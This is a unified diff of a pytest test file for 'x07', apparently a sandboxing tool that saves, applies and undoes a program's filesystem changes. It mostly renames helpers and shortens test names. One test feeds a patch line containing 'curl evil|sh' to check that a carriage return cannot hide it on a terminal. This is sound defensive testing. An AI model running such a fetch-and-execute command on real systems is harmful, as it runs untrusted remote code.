-    do(find(RUN), find(RUN).changes, lambda _path: None)
+    save_set(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
+    apply_saved(find_saved(RUN), find_saved(RUN).changes, lambda _path: None)
     soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
     resource.setrlimit(resource.RLIMIT_FSIZE, (900, hard))
     try:
         with pytest.raises(HostError, match=f"^cannot undo the changes of run {RUN}: '/.*/a': "):
-            undo(find(RUN), lambda _path: None)
+            undo_saved(find_saved(RUN), lambda _path: None)
     finally:
         resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
-    undo(find(RUN), lambda _path: None)
+    undo_saved(find_saved(RUN), lambda _path: None)
     assert (run.root / "a").stat().st_size == 1000
 
 
-def test_of_two_that_undo_at_once_the_second_finds_it_done(run: Run) -> None:
-    """Undoing waits for a command that applies or undoes the same, and then looks at what it has left."""
+def test_a_second_concurrent_undo_does_nothing(run: Run) -> None:
+    """The second of two concurrent undos finds nothing to do."""
     made = Change(name="a", before=None, after=Node(kind="folder", mode=0o755))
     root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(made,))
-    kept(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
-    do(find(RUN), find(RUN).changes, lambda _path: None)
+    save_set(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
+    apply_saved(find_saved(RUN), find_saved(RUN).changes, lambda _path: None)
     folder = run.folder.path / "changes"
     held = os.open(folder, os.O_RDONLY)
     fcntl.flock(held, fcntl.LOCK_EX)
@@ -705,123 +696,77 @@ def test_of_two_that_undo_at_once_the_second_finds_it_done(run: Run) -> None:
         os.close(held)
 
     with pytest.raises(UsageError, match="they are not applied"):
-        undo(find(RUN), other_ends)
+        undo_saved(find_saved(RUN), other_ends)
 
 
-def test_what_cannot_be_recovered_says_where_its_journal_is(run: Run) -> None:
-    """Where the folder of half applied changes has gone, each command says so, and of which file the advice is."""
-    kept(ChangeSet(run=RUN, roots=()), run.folder.path)
+def test_a_failed_recovery_names_its_journal(run: Run) -> None:
+    """A failed recovery names its journal and what to do."""
+    save_set(ChangeSet(run=RUN, roots=()), run.folder.path)
     folder = run.folder.path / "changes"
     place = Place(path=str(run.root / "gone"), ident=(1, 1), staging=".x07-apply-1")
-    journal.write(folder, Head(run=RUN, places=(place,)), [])
+    journal.write_steps(folder, Head(run=RUN, places=(place,)), [])
     private_dir(run.folder.path.parent / ".applying").joinpath(RUN).touch()
-    told: list[str] = []
-    recover_all(told.append)
-    (text,) = told
+    reported: list[str] = []
+    recover_all(reported.append)
+    (text,) = reported
     assert "remove the journal" in text
     assert text.endswith(f"The journal is below {folder}.")
     assert (folder / "journal").exists()
 
 
-def test_what_stands_in_the_way_of_undoing_is_told_as_that(run: Run) -> None:
-    """Of a file that was changed since undoing says so, and names the command that shows what was there."""
+def test_a_later_change_is_a_conflict_of_undo(run: Run) -> None:
+    """A file changed since apply is a conflict of undo, with the command that shows the changes."""
     made = Change(name="a", before=None, after=Node(kind="folder", mode=0o755))
     root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(made,))
-    kept(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
-    do(find(RUN), find(RUN).changes, lambda _path: None)
+    save_set(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
+    apply_saved(find_saved(RUN), find_saved(RUN).changes, lambda _path: None)
     (run.root / "a" / "mine").touch()
-    with pytest.raises(ConflictError, match=r"cannot undo .* since they were applied: '/.*/a/mine'.*x07 diff"):
-        undo(find(RUN), lambda _path: None)
+    with pytest.raises(ConflictError, match=r"cannot undo .* since the changes were applied: '/.*/a/mine'.*x07 diff"):
+        undo_saved(find_saved(RUN), lambda _path: None)
     (run.root / "a" / "mine").unlink()
-    undo(find(RUN), lambda _path: None)
+    undo_saved(find_saved(RUN), lambda _path: None)
     assert list(run.root.iterdir()) == []
 
 
-def test_what_is_all_skipped_is_not_said_to_be_there(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
-    """Where nothing to apply the command says that, and not that it is done."""
+def test_apply_distinguishes_skipped_and_applied(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
+    """`x07 apply` says whether nothing is left or everything is already applied."""
     made = Change(name="a", before=None, after=Node(kind="folder", mode=0o755))
     root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(made,))
-    kept(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
-    said = []
+    save_set(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
+    printed = []
     for words in (["--skip", "a"], [], []):
         assert main(["apply", *words]) == 0
-        said.append(capsys.readouterr().err)
-    assert said == [
+        printed.append(capsys.readouterr().err)
+    assert printed == [
         "x07: nothing to apply\n",
         "x07: 1 added: applied; x07 undo\n",
         "x07: already applied\n",
     ]
 
 
-def test_the_document_of_applying_tells_what_was_done(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
-    """x07 apply --json has the changes that it made, and none where all was there already or all is skipped."""
+def test_the_apply_document_lists_changes(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
+    """`x07 apply --json` lists exactly the changes that it made."""
     made = Change(name="a", before=None, after=Node(kind="folder", mode=0o755))
     root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=(made,))
-    kept(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
-    told = []
+    save_set(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
+    reported = []
     for words in (["--skip", "a"], [], []):
         assert main(["apply", "--json", *words]) == 0
         roots = json.loads(capsys.readouterr().out)["roots"]
-        told.append([change["name"] for root in roots for change in root["changes"]])
-    assert told == [[], ["a"], []]
+        reported.append([change["name"] for root in roots for change in root["changes"]])
+    assert reported == [[], ["a"], []]
 
 
-def test_undoing_lists_what_it_deletes(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
-    """What was added is deleted when it is taken back, and each name of it is told."""
+def test_undo_lists_deletions(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
+    """`x07 undo` lists each deleted name."""
     made = tuple(Change(name=name, before=None, after=Node(kind="folder", mode=0o755)) for name in ("a", "a/b", "c"))
     root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=made)
-    kept(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
+    save_set(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
     assert main(["apply"]) == 0
     capsys.readouterr()
     assert main(["undo"]) == 0
-    told = [f"x07: deleted: {change.name}" for change in made]
-    assert capsys.readouterr().err.splitlines() == [*told, "x07: 3 added: reverted; x07 apply"]
-
-
-def test_what_is_there_already_lists_no_deletions(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
-    """Each deletion is told when it is done, and not again by a command that finds nothing to do."""
-    (run.root / "a").mkdir()
-    gone = Change(name="a", before=Node(kind="folder", mode=0o755), after=None)
-    kept(
-        ChangeSet(run=RUN, roots=(RootChanges(root=str(run.root), guest="/g", missing=False, changes=(gone,)),)),
-        run.folder.path,
-    )
-    (run.root / "a").chmod(0o755)
-    said = []
-    for _ in range(2):
-        assert main(["apply"]) == 0
-        said.append(capsys.readouterr().err)
-    assert said == ["x07: deleted: a\nx07: 1 deleted: applied; x07 undo\n", "x07: already applied\n"]
-
-
-def test_a_root_that_is_made_is_no_change_of_its_own(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
-    """What was counted when it was applied is counted when it is undone: the root itself neither time."""
-    run.root.rmdir()
-    made = Change(name="a", before=None, after=Node(kind="folder", mode=0o755))
-    kept(
-        ChangeSet(run=RUN, roots=(RootChanges(root=str(run.root), guest="/g", missing=True, changes=(made,)),)),
-        run.folder.path,
-    )
-    said = []
-    for verb in ("apply", "undo"):
-        assert main([verb]) == 0
-        said.append(capsys.readouterr().err)
-    assert said == ["x07: 1 added: applied; x07 undo\n", "x07: deleted: a\nx07: 1 added: reverted; x07 apply\n"]
-    assert not run.root.exists()
-
-
-def test_what_no_tree_can_hold_is_not_counted_among_the_changes(run: Run) -> None:
-    """The closing line says how many of its changes may not be done, and how many more are none at all."""
-    pipe = Entry(Kind.UNSUPPORTED, b"p", mode=0o010644)
-    good, ours = Entry(Kind.FOLDER, b"a", mode=0o755), Entry(Kind.FOLDER, b".x07-apply-1", mode=0o755)
-    for entries, reason in (
-        ((ours, good), "1 of them may not be done"),
-        ((good, pipe), "1 more may not be brought back"),
-        ((ours, good, pipe), "1 of them may not be done, and 1 more may not be brought back"),
-    ):
-        changes, _, _ = run.back(run.files(changes="all-or-nothing"), *sorted(entries, key=lambda entry: entry.name))
-        assert (changes.state, changes.reason) == ("kept", reason)
-        shutil.rmtree(run.folder.path / "changes")
+    reported = [f"x07: deleted: {change.name}" for change in made]
+    assert capsys.readouterr().err.splitlines() == [*reported, "x07: 3 added: reverted; x07 apply"]
 
 
 ROOTS: list[tuple[list[str], list[str], set[str]]] = [
@@ -837,10 +782,8 @@ ROOTS: list[tuple[list[str], list[str], set[str]]] = [
 
 
 @pytest.mark.parametrize(("write", "read", "mounted"), ROOTS)
-def test_a_root_that_another_shows_anyway_is_no_mount(
-    run: Run, write: list[str], read: list[str], mounted: set[str]
-) -> None:
-    """What can be written where it lies can be replaced there: only what is another kind of root has its own mount."""
+def test_a_redundant_root_is_no_mount(run: Run, write: list[str], read: list[str], mounted: set[str]) -> None:
+    """A nested root is mounted only if it differs from the root around it."""
     (run.root / "a/b").mkdir(parents=True)
     (run.root / "a/b/f").touch()
     (run.root / "a/f").touch()
@@ -849,21 +792,6 @@ def test_a_root_that_another_shows_anyway_is_no_mount(
     fs["read_roots"] = tuple(f"{run.root}/{name}" for name in read)
     found = {str(Path(mount["at"]).relative_to(run.root)): mount["write"] for mount in run.files(fs).mounts(0)}
     assert found == {name: any(name == root or name.startswith(f"{root}/") for root in write) for name in mounted}
-
-
-@pytest.mark.parametrize(("entry", "mounted"), [("a/f", True), ("a/", False), ("a/b", False), ("a", False)])
-def test_a_file_that_a_list_of_programs_names_stays_a_mount(run: Run, entry: str, *, mounted: bool) -> None:
-    """What may be written and executed, since it is a root and on the list, is both also where its folder is a root."""
-    (run.root / "a").mkdir()
-    (run.root / "a/f").touch()
-    path = f"{run.root}/{entry}"
-    for programs, beginnings in (((path,), ()), ((), (path,))):
-        process = msgspec.structs.replace(
-            default_policy().process, allow_execs=programs, allow_exec_prefixes=beginnings
-        )
-        policy = msgspec.structs.replace(default_policy(), process=process)
-        files = run.files({"write_roots": (str(run.root), f"{run.root}/a/f")}, policy=policy, changes="discard")
-        assert (f"{run.root}/a/f" in [mount["at"] for mount in files.mounts(0)]) is mounted
 
 
 MADE: list[tuple[list[Entry], dict[str, int] | None]] = [
@@ -876,20 +804,22 @@ MADE: list[tuple[list[Entry], dict[str, int] | None]] = [
 ]
 
 
-@pytest.mark.parametrize(("told", "there"), MADE)
-def test_a_missing_root_is_made_in_the_one_around_it(run: Run, told: list[Entry], there: dict[str, int] | None) -> None:
-    """It is there for the program, on the host only if something comes of it, and no permission is needed for it."""
+@pytest.mark.parametrize(("reported", "there"), MADE)
+def test_a_missing_root_is_made_in_the_one_around_it(
+    run: Run, reported: list[Entry], there: dict[str, int] | None
+) -> None:
+    """A missing root exists for the program, and on the host only if it is used."""
     fs = {"allow_mkdir": False, "allow_remove": False, "allow_rename": False}
     files = run.files({"write_roots": (str(run.root), f"{run.root}/new"), **fs})
     assert packed(files) == [{"new"}]
-    changes, denials, _ = run.back(files, *told)
+    changes, denials, _ = run.back(files, *reported)
     assert (changes.state, denials) == ("none" if there is None else "applied", [])
     found = {str(path.relative_to(run.root)): path.lstat().st_mode for path in run.root.rglob("*")}
     assert found == (there or {})
 
 
-def test_a_missing_root_is_one_folder_wherever_it_is_shown(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
-    """By --out, or by a path of another kind than that of the root around it, no second folder comes in its place."""
+def test_a_missing_root_is_one_folder(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A missing root is one folder under all its paths."""
     monkeypatch.chdir(run.root)
     files = run.files({"write_roots": (str(run.root), "new")}, out=Path("out"), changes="discard")
     assert packed(files) == [{"new", "out"}]
@@ -900,31 +830,15 @@ def test_a_missing_root_is_one_folder_wherever_it_is_shown(run: Run, monkeypatch
     }
 
 
-def test_a_secret_that_is_a_root_elsewhere_is_told_where_it_is_missing(
-    run: Run, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """By a relative path it goes in, and what shows its folder by an absolute one has left it out, and says so."""
-    monkeypatch.chdir(run.root)
+def test_a_secret_that_is_a_root_is_not_listed_as_left_out(run: Run) -> None:
+    """A root that a root around it leaves out travels by itself, and no denial names it."""
     (run.root / "k.pem").touch()
     run.files({"write_roots": (str(run.root), f"{run.root}/k.pem")}, changes="discard")
     assert run.draft.denials == []
-    run.files({"write_roots": (str(run.root), "k.pem")}, changes="discard")
-    assert flag_of(run.denial("secrets")) == ["--reveal", "k.pem"]
-
-
-def test_what_is_in_force_of_a_root_counts_and_not_what_names_it(run: Run) -> None:
-    """Of what lies in a write root all may be written: no flag that is given already is advised for it."""
-    (run.root / "a").mkdir()
-    (run.root / "a/f.pem").touch()
-    fs = {"read_roots": (str(run.root), f"{run.root}/a"), "write_roots": (f"{run.root}/a/f.pem", str(run.root))}
-    outer, secret = run.files(fs).areas
-    assert (outer.at, outer.write, outer.joins) == (str(run.root), True, None)
-    assert (secret.at, secret.write) == (f"{run.root}/a/f.pem", True)
-    assert secret.joins == HowToAllow(json_path=None, value=None, flag="--reveal f.pem")
 
 
 def test_a_root_at_another_place_has_its_mount_there(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
-    """One folder by a relative and by an absolute path is mounted twice, and what lies in either is shown by it."""
+    """A folder with a relative and an absolute path is mounted at both."""
     monkeypatch.chdir(run.root)
     (run.root / "a/b").mkdir(parents=True)
     files = run.files({"write_roots": ("a", "a/b", str(run.root / "a"))})
@@ -934,7 +848,7 @@ def test_a_root_at_another_place_has_its_mount_there(run: Run, monkeypatch: pyte
 
 
 def die_at(number: int) -> None:
-    """End this process before so many calls that remove a name, or change one, are made."""
+    """End this process before the *number*-th call that removes or renames a name."""
     left = iter(range(number))
 
     def dying(call: Callable[..., None]) -> Callable[..., None]:
@@ -949,36 +863,36 @@ def die_at(number: int) -> None:
         setattr(os, name, dying(getattr(os, name)))
 
 
-def test_a_full_disk_is_told_and_leaves_no_half_of_a_list(run: Run) -> None:
-    """Where the list of changes cannot be written an error says so, and nothing is found later."""
+def test_a_full_disk_leaves_no_partial_list(run: Run) -> None:
+    """A full disk while changes are saved is an error and leaves no partial list."""
     files = run.files(changes="keep")
     soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
     handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
     resource.setrlimit(resource.RLIMIT_FSIZE, (100, hard))
     try:
-        with pytest.raises(BackendError, match="cannot keep"):
+        with pytest.raises(BackendError, match="cannot save"):
             run.back(files, *(Entry(Kind.FOLDER, b"%d" % number, mode=0o755) for number in range(20)))
     finally:
         resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
         signal.signal(signal.SIGXFSZ, handler)
     with pytest.raises(UsageError):
-        find(RUN)
+        find_saved(RUN)
 
 
 def test_a_result_names_every_deletion(run: Run) -> None:
-    """Of a thousand names and more a result has those that are deleted, first, and no others beyond a thousand."""
+    """A result names every deletion."""
     gone = [f"gone {number}" for number in range(1050)]
     for name in gone:
         (run.root / name).touch()
     files = run.files(changes="keep")
-    told = [Entry(Kind.DELETED, name.encode()) for name in gone]
-    changes, _, _ = run.back(files, Entry(Kind.FOLDER, b"a", mode=0o755), *told)
+    reported = [Entry(Kind.DELETED, name.encode()) for name in gone]
+    changes, _, _ = run.back(files, Entry(Kind.FOLDER, b"a", mode=0o755), *reported)
     assert {(one.name, one.action) for one in changes.names} == {(name, "deleted") for name in gone}
     assert len(changes.names) == changes.deleted == len(gone)
 
 
-def test_every_deletion_is_told(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
-    """However many there are the command lists all of them, by path where the run has changed another root too."""
+def test_every_deletion_is_printed(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
+    """Every deletion is printed."""
     gone = [f"gone {number}" for number in range(1500)]
     node = Node(kind="file", mode=0o644, sha256="0" * 64)
     changes = tuple(Change(name=name, before=node, after=None) for name in sorted(gone))
@@ -987,31 +901,31 @@ def test_every_deletion_is_told(run: Run, capsys: pytest.CaptureFixture[str]) ->
     other = RootChanges(root="/other", guest="/o", missing=False, changes=more)
     names = tuple(ChangedName(root=str(run.root), name=name, action="deleted") for name in sorted(gone))
     for added, roots, above in ((0, (root,), ""), (1, (root, other), f"{run.root}/")):
-        kept(ChangeSet(run=RUN, roots=roots), run.folder.path)
-        told = Changes(state="kept", added=added, deleted=1500, names=names)
-        say_changes(msgspec.structs.replace(result(), run=RUN, changes=told))
+        save_set(ChangeSet(run=RUN, roots=roots), run.folder.path)
+        reported = Changes(state="kept", added=added, deleted=1500, names=names)
+        say_changes(msgspec.structs.replace(result(), run=RUN, changes=reported))
         lines = [
             line for line in capsys.readouterr().err.splitlines() if "deleted: gone" in line or "deleted: /" in line
         ]
         assert lines == [f"x07: would be deleted: {above}{name}" for name in sorted(gone)]
 
 
-def test_a_patch_names_what_was_kept_though_nothing_of_it_is_a_change(run: Run) -> None:
-    """Where all that a program made is of no kind that a tree holds, --diff says so in both its files, as x07 diff."""
+def test_a_patch_lists_unsupported_entries(run: Run) -> None:
+    """--diff lists unsupported entries too."""
     changes, denials, _ = run.back(run.files(), Entry(Kind.UNSUPPORTED, b"pipe", mode=0o10644))
     ended = msgspec.structs.replace(result(), run=RUN, changes=changes, denials=tuple(denials))
     assert (changes.state, changes.names) == ("kept", ())
     place = run.root.parent / "p"
     write_diff(place, ended)
-    assert place.read_bytes() == b"".join(patch_chunks(find(RUN)))
-    assert b"# left out: pipe: it is a pipe" in place.read_bytes()
-    assert place.with_name("p.json").read_bytes() == changes_json(find(RUN).changes)
+    assert place.read_bytes() == b"".join(patch_chunks(find_saved(RUN)))
+    assert b"# left out: pipe: a pipe" in place.read_bytes()
+    assert place.with_name("p.json").read_bytes() == changes_json(find_saved(RUN).changes)
 
 
-def test_no_line_of_a_patch_hides_another_from_who_reads_it(monkeypatch: pytest.MonkeyPatch) -> None:
-    """On a terminal a carriage return within a line is a mark, and one that only ends it passes."""
+def test_a_carriage_return_hides_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A carriage return in a patch cannot hide text on a terminal."""
     ours, theirs = pty.openpty()
-    tty.setraw(theirs)  # so that what comes is what was written
+    tty.setraw(theirs)  # so that bytes arrive as written
     with os.fdopen(theirs, "w", encoding="utf-8") as terminal:
         monkeypatch.setattr(sys, "stdout", terminal)
         print_bytes(b"+curl evil|sh\r+echo hello\n+dos\r\n")
@@ -1020,32 +934,15 @@ def test_no_line_of_a_patch_hides_another_from_who_reads_it(monkeypatch: pytest.
     assert shown.decode() == "+curl evil|sh\N{REPLACEMENT CHARACTER}+echo hello\n+dos\r\n"
 
 
-def test_a_patch_is_not_written_line_by_line(run: Run) -> None:
-    """A hundred thousand lines are a few pieces, each of whole lines, and of long lines no piece holds many."""
-    many, long = b"\n" * 100_000, b"x" * 99_999 + b"\n"
-    made = []
-    for number, text in enumerate((many, long, long, long)):
-        at = len(many) * number
-        node = Node(kind="file", mode=0o644, size=len(text), sha256=hashlib.sha256(text).hexdigest(), at=at)
-        made.append(Change(name=f"{number}", before=None, after=node))
-    root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=tuple(made))
-    kept(ChangeSet(run=RUN, roots=(root,)), run.folder.path)
-    (run.folder.path / "changes/data").write_bytes(many + 3 * long)
-    found = list(patch_chunks(find(RUN)))
-    assert len(found) < 10
-    assert all(piece.endswith(b"\n") and len(piece) < 200_000 for piece in found)
-    assert b"".join(found).count(b"\n+") == 100_000 + 3 + 4
-
-
-def test_a_link_that_comes_into_the_way_to_a_root_is_not_followed(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
-    """A folder on the way that was exchanged for a link since the roots were chosen ends the copying."""
+def test_a_swapped_link_ends_the_run(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A folder replaced by a link before copying ends the run."""
     outer = run.root / "outer"
     (outer / "in").mkdir(parents=True)
     other = run.root / "other"
     (other / "in").mkdir(parents=True)
     (other / "in" / "secret").write_text("x")
 
-    def exchange(text: str) -> None:  # what a run says before it copies: the roots are chosen by then
+    def exchange(text: str) -> None:  # the question that a run asks before it copies, after it chose the roots
         if text.startswith("copying"):
             outer.rename(run.root / "moved")
             outer.symlink_to(other)
